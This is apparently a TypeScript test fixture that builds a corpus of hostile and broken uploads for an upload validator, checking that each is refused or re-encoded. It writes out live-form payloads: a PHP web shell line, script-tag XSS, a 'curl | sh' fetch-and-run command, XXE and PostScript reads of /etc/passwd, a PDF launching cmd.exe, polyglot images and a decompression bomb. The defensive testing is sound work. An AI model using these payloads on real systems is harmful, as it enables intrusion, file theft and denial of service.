/**
 * What people, and attackers, hand in as papers. Each is refused with its own sentence or kept: as `jpeg`, drawn anew, or
 * as `pdf`, written anew. Made here; none lies in the repository.
 */
import { deflateSync } from 'node:zlib';
import type { FileRefusal } from '../media/media.ts';
import {
  GIF,
  gifClaiming,
  heic,
  jpeg,
  picture,
  png,
  pngChunk,
  pngClaiming,
  pngOf,
  withPlace,
  ZIP,
} from './image-files.ts';
import { hiddenScript, linkTo, objectStream, pdfWith, SCRIPT } from './pdf-files.ts';

export interface Specimen {
  what: string;
  /** What the file calls itself. */
  name: string;
  type: string;
  bytes: Buffer;
  becomes: FileRefusal | 'jpeg' | 'pdf';
}

export const SCRIPT_TAG = '<script>alert(document.domain)</script>';
export const PHP = '<?php system($_GET["c"]); ?>';

type Row = [what: string, becomes: Specimen['becomes'], bytes: Buffer | string, name?: string, type?: string];

export async function fileCorpus(): Promise<Specimen[]> {
  const rows = [...texts(), ...archives(), ...pdfs(), ...(await pictures()), ...(await broken()), ...bombs()];
  return rows.map(([what, becomes, bytes, name = 'photo.jpg', type = 'image/jpeg']) => ({
    what,
    becomes,
    bytes: Buffer.from(bytes as string, 'latin1'),
    name,
    type,
  }));
}

function texts(): Row[] {
  const refused = 'file_type_refused';
  return [
    ['nothing', refused, ''],
    ['one byte', refused, '\xff'],
    ['a drawing with a script', refused, `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT_TAG}</svg>`],
    ['a drawing under its own name', refused, '<svg xmlns="http://www.w3.org/2000/svg"/>', 'a.svg', 'image/svg+xml'],
    ['a drawing behind an XML line', refused, '<?xml version="1.0"?><svg onload="alert(1)"/>', 'a.png', 'image/png'],
    [
      'a drawing that reads our files',
      refused,
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    ],
    ['a page', refused, `<!doctype html>${SCRIPT_TAG}`],
    ['a page under its own name', refused, `<html>${SCRIPT_TAG}</html>`, 'a.html', 'text/html'],
    ['a page behind a comment that looks like a GIF', 'file_unreadable', `GIF89a/*${SCRIPT_TAG}*/`],
    ['a program for the server', refused, PHP, 'photo.php.jpg'],
    ['a program of a shell', refused, '#!/bin/sh\ncurl example.lk | sh', 'photo.sh'],
    ['a macro of a drawing program', refused, 'push graphic-context\nfill url(https://example.lk/)', 'a.mvg'],
    ['the start of a PostScript', refused, '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'],
    [
      'the standard test of virus scanners',
      refused,
      'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
    ],
  ];
}

function archives(): Row[] {
  const refused = 'file_type_refused';
  return [
    ['an archive', refused, ZIP],
    ['a program of Windows', refused, 'MZ\x90\0\x03\0\0\0', 'photo.jpg.exe'],
    ['a program of Linux', refused, '\x7fELF\x02\x01\x01\0'],
    ['a bitmap', refused, 'BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 'a.bmp', 'image/bmp'],
    ['a TIFF', refused, 'II*\0\x08\0\0\0\0\0', 'a.tiff', 'image/tiff'],
    ['an icon', refused, '\0\0\x01\0\x01\0', 'a.ico'],
    ['a film', refused, heic('isom', ['mp42', 'avc1']), 'a.mp4', 'video/mp4'],
    ['an AVIF', refused, heic('avif', ['mif1', 'avif']), 'a.avif', 'image/avif'],
    ['an iPhone photo', 'file_heic', heic(), 'IMG_0001.HEIC', 'image/heic'],
    ['an iPhone photo renamed', 'file_heic', heic('mif1', ['heic'])],
    ['an iPhone burst', 'file_heic', heic('hevc', ['msf1', 'hevc'])],
  ];
}

function pdfs(): Row[] {
  const unsafe = 'file_pdf_unsafe';
  const files: [string, Specimen['becomes'], Buffer][] = [
    ['a PDF', 'pdf', pdfWith()],
    ['a PDF with packed objects', 'pdf', pdfWith([objectStream(['<< /Type /Font >>'])])],
    ['a PDF with a script', unsafe, pdfWith([SCRIPT])],
    ['a PDF with a packed script', unsafe, pdfWith([objectStream([SCRIPT])])],
    ['a PDF with a script spelt in codes', unsafe, pdfWith(['<< /S /J#61vaScript /J#53 (x) >>'])],
    ...Object.entries(hiddenScript()).map(([how, file]): [string, Specimen['becomes'], Buffer] => [
      `a PDF with a script ${how}`,
      unsafe,
      file,
    ]),
    ['a PDF with a link', 'pdf', linkTo('https://example.lk/')],
    ['a PDF with a link that is a script', unsafe, linkTo('javascript:alert(1)')],
    ['a PDF with a link into a network', unsafe, linkTo('file://host/share')],
    ['an encrypted PDF', unsafe, pdfWith(['<< /Filter /Standard >>'], '/Encrypt 4 0 R ')],
    ['a PDF that launches', unsafe, pdfWith(['<< /S /Launch /F (cmd.exe) >>'])],
    ['a PDF with an attachment', unsafe, pdfWith(['<< /Names << /EmbeddedFiles 5 0 R >> >>'])],
    ['a PDF with a file pinned to a page', unsafe, pdfWith(['<< /Subtype /FileAttachment /FS << /EF << >> >> >>'])],
    ['a PDF with actions', unsafe, pdfWith(['<< /AA << /O 5 0 R >> >>'])],
    ['a PDF with a form of scripts', unsafe, pdfWith(['<< /AcroForm << /XFA 5 0 R >> >>'])],
    ['a PDF with a page behind it', unsafe, Buffer.concat([pdfWith(), Buffer.from(SCRIPT_TAG)])],
    ['a PDF with an archive behind it', unsafe, Buffer.concat([pdfWith(), ZIP])],
    ['half a PDF', unsafe, pdfWith().subarray(0, 200)],
    ['a page that calls itself a PDF', unsafe, Buffer.from(`%PDF-1.7 ${SCRIPT_TAG}`)],
  ];
  return files.map(([what, becomes, bytes]) => [what, becomes, bytes, 'paper.pdf', 'application/pdf']);
}

async function pictures(): Promise<Row[]> {
  const plain = await jpeg(400, 300);
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT_TAG}${PHP}`));
  const pixels = await png(64, 64);
  const endless = Buffer.concat([plain.subarray(0, 2), commentSegment(`${SCRIPT_TAG}${PHP}`), plain.subarray(2)]);
  const animated = picture(64, 128).raw().toBuffer();
  const sharp = (await import('sharp')).default;
  return [
    ['a JPEG', 'jpeg', plain],
    ['a JPEG that calls itself a page', 'jpeg', plain, 'a.html', 'text/html'],
    ['a PNG that calls itself a JPEG', 'jpeg', pixels],
    ['a WebP without a name', 'jpeg', await picture(64, 64).webp().toBuffer(), 'blob', 'application/octet-stream'],
    ['a JPEG with the place it was taken', 'jpeg', await withPlace(picture(400, 300).jpeg()).toBuffer()],
    ['a PNG with the place it was taken', 'jpeg', await withPlace(picture(400, 300).png()).toBuffer()],
    ['a WebP with the place it was taken', 'jpeg', await withPlace(picture(400, 300).webp()).toBuffer()],
    ['a JPEG with an archive behind it', 'jpeg', Buffer.concat([plain, ZIP])],
    ['a JPEG with a program behind it', 'jpeg', Buffer.concat([plain, Buffer.from(PHP)])],
    ['a JPEG with a script in a comment', 'jpeg', endless],
    ['a JPEG with a PDF behind it', 'jpeg', Buffer.concat([plain, pdfWith([SCRIPT])])],
    ['a PNG with a program behind it', 'jpeg', Buffer.concat([pixels, Buffer.from(PHP)])],
    ['a PNG with a script in its words', 'jpeg', Buffer.concat([pixels.subarray(0, 33), text, pixels.subarray(33)])],
    ['a JPEG of a printing press', 'jpeg', await picture(64, 64).toColourspace('cmyk').jpeg().toBuffer()],
    ['a JPEG in shades of grey', 'jpeg', await picture(64, 64).greyscale().jpeg().toBuffer()],
    ['a PNG of deep colours', 'jpeg', await picture(64, 64).toColourspace('rgb16').png().toBuffer()],
    ['a PNG with few colours', 'jpeg', await picture(64, 64).png({ palette: true, colours: 4 }).toBuffer()],
    ['a GIF', 'jpeg', GIF, 'a.gif', 'image/gif'],
    ['a GIF with an archive behind it', 'jpeg', Buffer.concat([GIF, ZIP])],
    ['a picture of one pixel', 'jpeg', await png(1, 1)],
    ['a picture as thin as a thread', 'jpeg', await png(9_000, 1)],
    ...(await Promise.all(
      (['webp', 'gif'] as const).map(async (format): Promise<Row> => {
        const frames = sharp(await animated, { raw: { width: 64, height: 128, channels: 3, pageHeight: 64 } });
        return [`a ${format === 'gif' ? 'GIF' : 'WebP'} that moves`, 'jpeg', await frames.toFormat(format).toBuffer()];
      }),
    )),
  ];
}

async function broken(): Promise<Row[]> {
  const refused = 'file_unreadable';
  const [photo, drawing, moving, small] = [
    await jpeg(),
    await png(),
    await picture(640, 480).gif().toBuffer(),
    await picture(640, 480).webp({ lossless: true }).toBuffer(),
  ];
  const wrongSum = Buffer.from(drawing);
  wrongSum.fill(0x55, 2_000, 2_100);
  return [
    ['half a JPEG', refused, photo.subarray(0, photo.length / 2)],
    ['half a PNG', refused, drawing.subarray(0, drawing.length / 2)],
    ['half a GIF', refused, moving.subarray(0, moving.length / 2)],
    ['the first bytes of a GIF', refused, GIF.subarray(0, 6)],
    ['noise that begins like a GIF', refused, `GIF89a${'noise'.repeat(50)}`],
    ['half a WebP', refused, small.subarray(0, small.length / 2)],
    ['the first bytes of a JPEG', refused, photo.subarray(0, 4)],
    ['the first bytes of a PNG', refused, drawing.subarray(0, 8)],
    ['noise that begins like a JPEG', refused, Buffer.concat([photo.subarray(0, 3), Buffer.alloc(5_000, 'noise')])],
    ['noise that begins like a WebP', refused, Buffer.from(`RIFF\x10\0\0\0WEBP${'noise'.repeat(50)}`)],
    ['a PNG changed on the way', refused, wrongSum],
    ['a PNG without pixels', refused, pngOf(drawing.subarray(8, 33))],
    ['a page that begins like a JPEG', refused, Buffer.concat([photo.subarray(0, 3), Buffer.from(SCRIPT_TAG)])],
  ];
}

function bombs(): Row[] {
  const claiming = (width: number, height: number) => pngClaiming(width, height);
  return [
    ['a PNG of 2,500 megapixels', 'file_too_many_pixels', claiming(50_000, 50_000)],
    ['a PNG of 41 megapixels', 'file_too_many_pixels', claiming(8_200, 5_000)],
    ['a PNG as wide as can be', 'file_too_many_pixels', claiming(1_000_000, 50)],
    ['a GIF of 4,000 megapixels', 'file_too_many_pixels', gifClaiming(65_535, 65_535)],
    ['a PNG whose pixels are missing', 'file_unreadable', claiming(6_000, 6_000)],
    ['a PNG with a bomb in its words', 'jpeg', wordBomb()],
    ['11 MB', 'file_too_large', Buffer.concat([GIF, Buffer.alloc(10 * 2 ** 20)])],
  ];
}

/** Fifty kilobytes of words that unfold to fifty megabytes. */
function wordBomb(): Buffer {
  const header = Buffer.from('000000010000000108020000 00'.replace(' ', ''), 'hex');
  const words = Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(50_000_000, 'a'))]);
  return pngOf(pngChunk('IHDR', header), pngChunk('zTXt', words), pngChunk('IDAT', deflateSync(Buffer.alloc(4))));
}

function commentSegment(text: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([head, Buffer.from(text)]);
}
